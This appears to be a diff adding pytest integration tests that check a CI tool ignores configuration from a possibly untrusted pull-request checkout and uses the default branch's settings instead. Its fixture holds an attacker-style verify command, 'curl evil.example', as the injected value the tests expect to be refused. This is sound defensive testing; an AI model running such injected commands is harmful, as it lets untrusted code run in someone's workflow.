@@ -1,0 +1,56 @@
+"""In a workflow no checkout says what is allowed: it may be that of a pull."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+from unittest import mock
+
+import pytest
+
+from ralph_mission.app.cycle import App, build_app
+from ralph_mission.errors import UserError
+from tests.integration.hub import Hub, hub, unpaced
+
+MINE = "hands: {verify: [make test]}\n"
+THEIRS = (
+    "forge: {kind: local}\nhands: {verify: [curl evil.example]}\n"
+    "observers: {commands: [{name: a, run: b, parse: sarif}]}\n"
+)
+
+
+@pytest.fixture
+def harbour(tmp_path: Path) -> Iterator[Hub]:
+    """A server whose default branch has settings, and a checkout with others."""
+    with hub(tmp_path, {"ci/ralph.yml": MINE}, MINE) as made:
+        for name in ("ralph.yml", "ci/ralph.yml", "ci/other.yml"):
+            (made.clone / name).write_text(THEIRS)
+        yield made
+
+
+def _house(harbour: Hub, config: Path | None) -> App:
+    with mock.patch.dict(os.environ, harbour.environ | {"GITHUB_ACTIONS": "true"}), unpaced():
+        return build_app(harbour.clone, config, now=harbour.now)
+
+
+@pytest.mark.parametrize("name", [None, "ralph.yml", "ci/ralph.yml", "ci/../ci/ralph.yml"])
+def test_a_checkout_takes_neither_the_forge_nor_the_commands(harbour: Hub, name: str | None) -> None:
+    house = _house(harbour, harbour.clone / name if name else None)
+    assert house.github is not None
+    assert (house.config.hands.verify, house.config.observers.commands) == (("make test",), ())
+
+
+def test_a_link_to_the_checkout_leads_to_the_default_branch(harbour: Hub, tmp_path: Path) -> None:
+    (tmp_path / "link").symlink_to(harbour.clone)
+    assert _house(harbour, tmp_path / "link" / "ralph.yml").config.hands.verify == ("make test",)
+
+
+def test_a_file_that_the_default_branch_lacks_is_refused(harbour: Hub) -> None:
+    with pytest.raises(UserError, match=r"ci/other\.yml is not on the default branch"):
+        _house(harbour, harbour.clone / "ci/other.yml")
+
+
+def test_settings_from_elsewhere_on_the_machine_are_the_workflows_own(harbour: Hub, tmp_path: Path) -> None:
+    (tmp_path / "mine.yml").write_text("owners: [mara]\n")
+    assert _house(harbour, tmp_path / "mine.yml").config.owners == ("mara",)
